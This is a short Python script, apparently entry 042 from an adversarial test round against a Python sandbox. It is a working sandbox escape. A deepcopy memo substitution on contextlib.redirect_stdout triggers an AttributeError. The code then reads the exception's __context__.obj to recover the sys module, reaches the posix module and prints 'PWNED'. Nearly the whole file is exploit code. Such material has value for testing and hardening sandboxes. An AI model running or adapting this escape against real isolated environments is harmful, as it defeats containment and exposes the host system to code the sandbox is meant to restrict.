# adversary round 8: 042: the launcher strips AttributeError.obj but re-raises `from None`, which keeps __context__ = the original error: make redirect_stdout's getattr(sys, <missing name>) fail (name planted by deepcopy memo substitution) and read e.__context__.obj -> sys
import contextlib
import copy


class Z:
    _old_targets = None


cm = contextlib.redirect_stdout('no_such_attribute_xyz')
twin = copy.deepcopy(cm, {id('_new_target'): '_st' + 'ream'})
try:
    with twin:
        pass
except AttributeError as e:
    s = e.__context__.obj
print(s, s.modules['posix'].getpid())
print('PWN' + 'ED')
